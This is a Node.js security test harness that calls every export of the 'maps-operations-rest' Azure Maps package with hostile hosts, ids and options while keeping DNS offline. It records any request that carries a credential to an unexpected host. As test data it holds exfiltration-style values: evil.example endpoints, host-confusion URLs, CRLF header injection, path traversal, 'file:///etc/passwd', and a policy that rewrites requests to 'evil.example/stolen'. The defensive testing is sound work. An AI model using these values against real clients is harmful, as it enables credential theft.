// Run inside an empty project where maps-operations-rest is installed from its tarball. Walks every
// export of the installed package, calls each function with hostile hosts, ids, options and
// policies, and records every HTTP request any of it makes (node's diagnostics channel, as the
// request is created, before DNS). Name lookups fail at once, so the walk stays offline and fast
// whatever the machine's network. Prints a JSON summary; the test asserts that no request
// carrying a credential was made for a host other than the Azure Maps hosts or the endpoint the
// call was configured with.
"use strict";
const dc = require("node:diagnostics_channel");
const dns = require("node:dns");

const realLookup = dns.lookup;
dns.lookup = (host, options, callback) => {
  if (require("node:net").isIP(host) !== 0) return realLookup(host, options, callback);
  const done = typeof options === "function" ? options : callback;
  const error = Object.assign(new Error("hostile walk: no name lookups"), { code: "ENOTFOUND" });
  process.nextTick(() => done(error));
  return {};
};
const http = require("node:http");
const { AzureKeyCredential, AzureSASCredential } = require("@azure/core-auth");

const KEY = "hostile-walk-key-0123456789";
const SAS = "hostile-walk-sas-0123456789";
const TOKEN = "hostile-walk-token-0123456789";
const CLIENT_ID = "hostile-walk-client-id";
const SECRETS = [KEY, SAS, TOKEN];

const requests = [];
dc.subscribe("http.client.request.start", ({ request }) => {
  const headers = {};
  for (const name of request.getHeaderNames()) headers[name] = String(request.getHeader(name));
  // `host` is where the socket goes; a Host header can say anything.
  requests.push({
    host: String(request.host).toLowerCase(),
    path: request.path,
    headers,
    allowed: current,
  });
});

const MAPS_HOSTS = ["us.atlas.microsoft.com", "eu.atlas.microsoft.com"];
/** Hosts the running call may send a credential to: Azure Maps and the endpoint it configured. */
let current = MAPS_HOSTS;
const hostOf = (endpoint) => {
  try {
    return new URL(endpoint).hostname.toLowerCase().replace(/^\[|\]$/g, "");
  } catch {
    return undefined;
  }
};
/** Clients made so far, with the hosts their configuration allows. */
const clientHosts = new Map();
const allowedFor = (args) => [
  ...MAPS_HOSTS,
  ...args.flatMap((arg) => clientHosts.get(arg) ?? []),
  ...args
    .filter((arg) => typeof arg === "object" && arg !== null && typeof arg.endpoint === "string")
    .map((arg) => hostOf(arg.endpoint))
    .filter(Boolean),
];

const tokenCredential = {
  getToken: async () => ({ token: TOKEN, expiresOnTimestamp: Date.now() + 3600e3 }),
};
const credentials = () => [
  new AzureKeyCredential(KEY),
  new AzureSASCredential(SAS),
  tokenCredential,
];

const HOSTILE_HOSTS = [
  "https://evil.example",
  "http://evil.example",
  "evil.example",
  "evil.example/#",
  "https://evil.example/#",
  "https://evil.example?x=1",
  "//evil.example",
  "https://us.atlas.microsoft.com.evil.example",
  "https://us.atlas.microsoft.com@evil.example",
  "https://evil.example\\@us.atlas.microsoft.com",
  "https://evil.example#@us.atlas.microsoft.com",
  "http://127.0.0.1.evil.example",
  "http://localhost.evil.example",
  "http://[::ffff:7f00:1].evil.example",
  "http://0x7f000001.evil.example",
  " https://evil.example",
  "https://evil.example\r\n",
  "javascript:alert(1)",
  "file:///etc/passwd",
];

const rewrite = (position) => ({
  position,
  policy: {
    name: `rewrite-${position}`,
    sendRequest: (request, next) => {
      request.url = "https://evil.example/stolen";
      return next(request);
    },
  },
});

function optionSets(trap) {
  const sets = [{}, { endpoint: trap }];
  for (const host of HOSTILE_HOSTS) {
    sets.push({ endpoint: host }, { baseUrl: host }, { endpoint: trap, baseUrl: host });
  }
  sets.push(
    { geography: "evil.example/#" },
    { geography: "evil.example?" },
    { geography: "us.evil.example" },
    { geography: ["us"] },
    { geography: { toString: () => "evil.example#" } },
    { endpoint: trap, apiVersion: "2.0&subscription-key=x#" },
    { endpoint: trap, apiVersion: "2.0/../../../evil" },
    { endpoint: trap, apiVersion: "//evil.example" },
    {
      endpoint: trap,
      credentials: { scopes: ["https://evil.example/.default"], apiKeyHeaderName: "x" },
    },
    { endpoint: "http://evil.example", allowInsecureConnection: true },
    { endpoint: trap, pipeline: {} },
    { endpoint: trap, additionalPolicies: [rewrite("perCall")] },
    { endpoint: trap, additionalPolicies: [rewrite("perRetry")] },
    { endpoint: trap, retryOptions: { maxRetries: 0 } },
  );
  return sets.map((set) => ({ retryOptions: { maxRetries: 0 }, ...set }));
}

const HOSTILE_IDS = [
  "0522b4fe-0539-4c6c-ba70-e35ec865d8e2",
  "op",
  "..",
  ".",
  "../../..",
  "https://evil.example/x",
  "//evil.example/x",
  "%2F%2Fevil.example",
  "x?subscription-key=leak",
  "x#frag",
  "x\r\nHost: evil.example",
  "\ud800",
  "",
  { value: "//evil.example", allowReserved: true },
];

const ROUTES = ["/datasets/operations/{operationId}", "/dataRegistries/operations/{operationId}"];

/** Every way to make a request with a client. */
async function useClient(client, allowed) {
  current = allowed;
  const calls = [];
  for (const route of ROUTES) {
    for (const id of HOSTILE_IDS) {
      calls.push(() => client.path(route, id).get());
      calls.push(() => client.pathUnchecked(route, id).get());
    }
  }
  for (const path of [
    "https://evil.example/x",
    "//evil.example/x",
    "http://evil.example/x",
    "/\\evil.example/x",
    "https:evil.example/x",
    "\\\\evil.example\\x",
  ]) {
    calls.push(() => client.pathUnchecked(path).get());
  }
  calls.push(() =>
    client.pathUnchecked(ROUTES[0], "op").get({ headers: { host: "evil.example" } }),
  );
  calls.push(() =>
    client.pathUnchecked(ROUTES[0], "op").get({ queryParameters: { "subscription-key": KEY } }),
  );
  for (const call of calls) {
    try {
      await call();
    } catch {
      // refusals and network errors are expected
    }
  }
}

function looksLikeClient(value) {
  return typeof value === "object" && value !== null && typeof value.pathUnchecked === "function";
}

async function main() {
  const lib = require("maps-operations-rest");
  // Terminal answers, so that every wait ends at its first poll.
  const trapServer = http.createServer((req, res) => {
    const dataset = req.url.startsWith("/datasets/");
    res.writeHead(200, {
      "content-type": "application/json",
      ...(dataset
        ? { "resource-location": `http://${req.headers.host}/datasets/d1?api-version=2.0` }
        : {}),
    });
    res.end(
      JSON.stringify(
        dataset
          ? { status: "Succeeded", created: "2021-04-23T19:14:03Z" }
          : { status: "Completed" },
      ),
    );
  });
  await new Promise((r) => trapServer.listen(0, "127.0.0.1", r));
  const trap = `http://127.0.0.1:${trapServer.address().port}`;

  // The detector must see a leak when there is one: a bare core-client with a hostile endpoint.
  const { getClient } = require("@azure-rest/core-client");
  const before = requests.length;
  try {
    await getClient("https://evil.example", new AzureKeyCredential(KEY), {
      credentials: { apiKeyHeaderName: "subscription-key" },
      retryOptions: { maxRetries: 0 },
    })
      .pathUnchecked("/x")
      .get();
  } catch {
    // ENOTFOUND: the request was made, which is what the control case needs
  }
  const controlSeen = requests
    .slice(before)
    .some((r) => r.host === "evil.example" && r.headers["subscription-key"] === KEY);
  requests.length = before;

  const exported = Object.keys(lib).sort();
  const functions = exported.filter((name) => typeof lib[name] === "function");
  const clients = [];
  let calls = 0;
  const call = async (fn, args) => {
    calls += 1;
    const allowed = allowedFor(args);
    current = allowed;
    try {
      let result = fn(...args);
      if (result && typeof result.then === "function") result = await result;
      if (looksLikeClient(result)) {
        clients.push({ client: result, allowed });
        clientHosts.set(result, allowed);
      }
    } catch {
      // refused: fine
    }
  };
  // Legitimate clients on the trap endpoint too, to drive the functions that take a client.
  const legit = [
    lib.createDatasetOperationsClient(new AzureKeyCredential(KEY), {
      endpoint: trap,
      retryOptions: { maxRetries: 0 },
    }),
    lib.createDataRegistryOperationsClient(new AzureSASCredential(SAS), {
      endpoint: trap,
      retryOptions: { maxRetries: 0 },
    }),
  ];
  for (const client of legit) clientHosts.set(client, [...MAPS_HOSTS, "127.0.0.1"]);
  const waitOptions = {
    maxRetries: 0,
    requestTimeoutInMs: 500,
    maxWaitInMs: 1500,
    minIntervalInMs: 1,
    intervalInMs: 1,
  };
  for (const name of functions) {
    const fn = lib[name];
    for (const options of optionSets(trap)) {
      for (const credential of credentials()) {
        await call(fn, [credential, options]);
        await call(fn, [credential, CLIENT_ID, options]);
        await call(fn, [credential, options.endpoint ?? "https://evil.example", options]);
      }
    }
    for (const client of legit) {
      for (const id of HOSTILE_IDS) {
        await call(fn, [client, id, waitOptions]);
        await call(fn, [client, id]);
      }
    }
    for (const host of HOSTILE_HOSTS) await call(fn, [host]);
    await call(fn, []);
  }
  for (const { client, allowed } of clients) await useClient(client, allowed);
  for (const client of legit) await useClient(client, [...MAPS_HOSTS, "127.0.0.1"]);
  trapServer.close();

  const carriesSecret = (r) =>
    ["subscription-key", "authorization", "x-ms-client-id"].some((h) => h in r.headers) ||
    SECRETS.some((s) => JSON.stringify(r).includes(s));
  const leaks = requests.filter((r) => carriesSecret(r) && !r.allowed.includes(r.host));
  const hosts = [...new Set(requests.map((r) => r.host))].sort();
  console.log(
    JSON.stringify({
      controlSeen,
      exported,
      functions,
      calls,
      clientsMade: clients.length,
      requests: requests.length,
      hosts,
      leaks,
    }),
  );
}

main().catch((error) => {
  console.error(error);
  process.exit(1);
});
